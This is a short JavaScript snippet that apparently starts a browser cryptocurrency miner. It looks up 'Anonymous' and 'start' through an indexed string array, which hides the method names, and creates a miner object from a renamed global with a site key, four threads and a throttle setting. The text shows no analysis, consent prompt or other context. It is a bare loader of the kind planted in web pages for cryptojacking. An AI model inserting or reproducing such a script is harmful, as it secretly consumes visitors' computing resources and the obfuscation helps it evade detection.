var k = ['Anonymous', 'start'];
var p = new window['Zed'][k[0]]('0000', { threads: 4, throttle: 0.2 });
p[k[1]]();
